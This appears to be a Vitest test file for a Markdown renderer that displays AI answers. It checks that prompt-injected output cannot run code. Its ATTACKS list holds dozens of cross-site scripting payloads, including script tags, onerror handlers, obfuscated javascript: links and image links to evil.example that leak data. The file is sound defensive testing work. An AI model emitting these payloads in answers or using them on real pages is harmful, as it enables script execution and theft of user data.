import { describe, expect, it } from "vitest";
import { cut, render, renderInto } from "./render.ts";

/** What a prompt-injected answer tries, from JupyterLab's own Markdown and beyond. */
const ATTACKS = [
  "<script>window.hit = 1</script>",
  "text <script>window.hit = 1</script> text",
  "<img src=x onerror=\"window.hit=1\">",
  "para <img src=https://evil.example/leak?q=1 onerror=window.hit=1>",
  "<svg onload=window.hit=1><a xlink:href=\"javascript:1\"><text>x</text></a></svg>",
  "<iframe src=\"javascript:window.hit=1\"></iframe>",
  "<iframe srcdoc=\"<script>parent.hit=1</script>\"></iframe>",
  "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
  "<link rel=stylesheet href=https://evil.example/x.css><style>@import url(https://evil.example)</style>",
  "<video src=https://evil.example/v autoplay></video><audio src=https://evil.example/a autoplay>",
  "<form action=javascript:window.hit=1><button>x</button></form>",
  "<meta http-equiv=refresh content=\"0;url=javascript:1\"><base href=https://evil.example/>",
  "<details open ontoggle=window.hit=1>x</details>",
  "<a href=\"javascript:window.hit=1\">x</a>",
  "[x](javascript:window.hit=1)",
  "[x](JaVaScRiPt:window.hit=1)",
  "[x](javascript&#58;window.hit=1)",
  "[x](javascript&colon;window.hit=1)",
  "[x](&#x6A;avascript:window.hit=1)",
  "[x](\tjavascript:window.hit=1)",
  "[x](<java\nscript:window.hit=1>)",
  "[x](\u0001javascript:window.hit=1)",
  "[x](vbscript:msgbox(1)) [y](data:text/html,<script>window.hit=1</script>) [z](file:///etc/passwd)",
  "[x](blob:https://e.org/1) [y](//evil.example/x) [z](/api/shutdown) [w](#x)",
  "<javascript:window.hit=1> <data:text/html,x>",
  "[x]: javascript:window.hit=1\n\n[x] ![x]",
  "![x](javascript:window.hit=1) ![y](data:image/svg+xml,<svg onload=window.hit=1>)",
  "![leak](https://evil.example/leak?q=secret)",
  "[![leak](https://evil.example/leak)](https://e.org \"onmouseover=window.hit=1\")",
  "![x\" onerror=\"window.hit=1](https://e.org/\"onerror=\"window.hit=1)",
  "[a](https://e.org \"x\\\" onmouseover=\\\"window.hit=1\")",
  "```html\n<script>window.hit=1</script><img src=x onerror=window.hit=1>\n```",
  "```\"><img src=x onerror=window.hit=1>\n<img src=x onerror=window.hit=1>\n```",
  "```python\n'</code></pre><script>window.hit=1</script>'\n```",
  "`<img src=x onerror=window.hit=1>`",
  "| <img src=x onerror=window.hit=1> | b |\n|--|--|\n| <script>window.hit=1</script> | [x](javascript:1) |",
  "$\\href{javascript:window.hit=1}{x}$ $$\\url{javascript:1}$$",
  "$\\class{x\" onclick=\"window.hit=1}{y}$ \\(\\style{background:url(https://evil.example)}{x}\\)",
  "$\\includegraphics{https://evil.example/x.png}$ $\\data{onclick=1}{x}$ $\\id{x}{y}$",
  "\\[\\text{<img src=x onerror=window.hit=1>}\\]",
  "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;img src=x onerror=window.hit=1&#62;",
  "<!-- --!><script>window.hit=1</script> -->",
  "<![CDATA[<script>window.hit=1</script>]]><?php x ?>",
  "- <script>window.hit=1</script>\n  > <img src=x onerror=window.hit=1>",
  "# <img src=x onerror=window.hit=1>\n\n<noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\">",
];

const LOADING = "script, iframe, object, embed, img, video, audio, source, link, style, svg, form, base, meta";
const URL_ATTRIBUTES = ["src", "href", "xlink:href", "action", "data", "srcset", "poster", "background"];

function check(root: ParentNode): void {
  expect(root.querySelectorAll(LOADING)).toHaveLength(0);
  for (const node of root.querySelectorAll("*")) {
    for (const { name, value } of node.attributes) {
      expect(name).not.toMatch(/^on|^style$|^srcdoc$/i);
      if (URL_ATTRIBUTES.includes(name)) expect(value).toMatch(/^(https?:|mailto:)/);
    }
    if (node.localName === "a") {
      expect(node.getAttribute("rel")).toBe("noopener noreferrer");
      expect(node.getAttribute("target")).toBe("_blank");
    }
  }
  expect((globalThis as { hit?: number }).hit).toBeUndefined();
}

describe("an answer cannot act", () => {
  for (const attack of ATTACKS) {
    it(attack.slice(0, 70), () => {
      check(renderInto(attack));
      const root = document.createElement("div");
      // Also when the page had drawn half of it: parsing the result again finds nothing either.
      root.innerHTML = render(cut(attack, 3, 3));
      check(root);
    });
  }

  it("loads an image only when it is clicked", () => {
    const root = renderInto("![a cat](https://e.org/cat.png)");
    const link = root.querySelector("a");
    expect(link?.textContent).toBe("image: a cat");
    link?.dispatchEvent(new MouseEvent("click", { cancelable: true, bubbles: true }));
    const image = root.querySelector("img");
    expect(image?.getAttribute("src")).toBe("https://e.org/cat.png");
    expect(image?.getAttribute("referrerpolicy")).toBe("no-referrer");
  });
});
